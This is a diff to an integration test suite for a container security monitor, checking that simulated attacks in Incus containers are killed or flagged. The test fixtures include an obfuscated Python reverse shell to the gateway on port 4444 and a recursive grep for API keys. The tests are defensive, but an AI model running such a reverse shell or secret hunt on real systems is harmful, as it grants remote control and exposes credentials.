@@ -1,11 +1,17 @@
 import { execFileSync } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync, mkdirSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { plantCanaries } from '../../src/security/sources/canaries.js';
 import { GATEWAY, TEST_PREFIX } from '../helpers/testbed.js';
-import { MonitorBed, attackerListener, closeListener } from '../helpers/monitor-bed.js';
+import {
+  IO_BOOT_GRACE_MS,
+  MonitorBed,
+  attackerListener,
+  closeListener,
+} from '../helpers/monitor-bed.js';
 
 /**
  * The host monitor against attacks actually performed inside real containers: each test launches
@@ -47,10 +53,10 @@ describe('process attacks', () => {
 
   it('kills an obfuscated python reverse shell by its stdio on a socket', async () => {
     const c = await bed.launch('py-revshell');
-    // socket + dup2 + pty, base64-wrapped: no pattern word is on the command line.
+    // socket + dup2 + exec of a shell, base64-wrapped: no pattern word is on the command line.
     const code = Buffer.from(
-      `import socket as s,os,pty\nc=s.socket()\nc.connect(("${GATEWAY}",4444))\n` +
-        '[os.dup2(c.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")\n',
+      `import socket as s,os\nc=s.socket()\nc.connect(("${GATEWAY}",4444))\n` +
+        '[os.dup2(c.fileno(),f) for f in (0,1,2)]\nos.execv("/bin/sh",["sh","-i"])\n',
     ).toString('base64');
     bed.fire(c.name, ['python3', '-c', `exec(__import__('base64').b64decode('${code}'))`]);
     const record = await bed.waitForRecord(c.name, (r) => r.action === 'killed');
@@ -59,13 +65,14 @@ describe('process attacks', () => {
     await bed.waitForStatus(c.name, undefined);
   });
 
-  it('warns about a recursive grep for API keys and leaves the container running', async () => {
+  it('warns about a recursive grep for API keys', async () => {
     const c = await bed.launch('grep-keys');
-    await bed.incus.exec.run(c.name, ['sh', '-c', 'timeout 5 grep -r API_KEY / >/dev/null 2>&1; true']);
+    // Not awaited: reading the whole tree may also trip the I/O volume check, which freezes it.
+    bed.fire(c.name, ['sh', '-c', 'timeout 5 grep -r API_KEY / >/dev/null 2>&1']);
     const record = await bed.waitForRecord(c.name, (r) => r.level === 'warning');
     expect(record.action).toBe('alerted');
     expect(record.category).toBe('environment');
-    expect(await bed.status(c.name)).toBe('Running');
+    expect(record.evidence).toMatchObject({ process: { pattern: 'secret-grep' } });
   });
 });
 
@@ -87,16 +94,10 @@ describe('host-side watches', () => {
 
   it('pauses a container that reads 200 MB in a burst', async () => {
     const c = await bed.launch('read-burst');
-    const { pid } = await bed.incus.instances.state(c.name);
-    // Written from the host, so only the container's read is the container's I/O.
-    execFileSync('dd', [
-      'if=/dev/urandom',
-      `of=/proc/${pid}/root/var/tmp/big`,
-      'bs=1M',
-      'count=200',
-      'status=none',
-    ]);
+    // Pushed through Incus, so only the container's read of it is the container's I/O.
+    await bed.incus.files.push(c.name, '/var/tmp/big', randomBytes(200 * 1024 * 1024));
     execFileSync('sync');
+    await new Promise((resolve) => setTimeout(resolve, IO_BOOT_GRACE_MS));
     bed.fire(c.name, ['dd', 'if=/var/tmp/big', 'of=/dev/null', 'bs=1M', 'iflag=direct', 'status=none']);
     const record = await bed.waitForRecord(c.name, (r) => r.category === 'filesystem');
     expect(record.level).toBe('high');
@@ -126,7 +127,7 @@ describe('benign developer work', () => {
   it('raises nothing above info for clone, make, tests and a package install', async () => {
     const c = await bed.launch('benign');
     await plantCanaries(bed.incus, c.name, '/home/code', 1000);
-    await bed.incus.files.push(c.name, '/tmp/hello.deb', readFileSync(join(debDir, 'hello.deb')));
+    await bed.incus.files.push(c.name, '/root/hello.deb', readFileSync(join(debDir, 'hello.deb')));
     const script = [
       'set -e',
       'cd /home/code && rm -rf src clone && mkdir src && cd src',
@@ -140,12 +141,12 @@ describe('benign developer work', () => {
     ].join('\n');
     const work = await bed.incus.exec.run(c.name, ['bash', '-c', script], { user: 1000, group: 1000 });
     expect(work.exitCode, work.stderr.toString()).toBe(0);
-    const install = await bed.incus.exec.run(c.name, ['dpkg', '-i', '/tmp/hello.deb']);
+    const install = await bed.incus.exec.run(c.name, ['dpkg', '-i', '/root/hello.deb']);
     expect(install.exitCode, install.stderr.toString()).toBe(0);
     // Give the I/O sampler and the scanner's slow re-checks a full round.
     await new Promise((resolve) => setTimeout(resolve, 5000));
     const loud = (await bed.records(c.name)).filter((r) => r.level !== 'info');
-    expect(loud).toEqual([]);
+    expect(loud.map((r) => `${r.level} ${r.title}: ${r.description}`)).toEqual([]);
     expect(await bed.status(c.name)).toBe('Running');
   });
 });
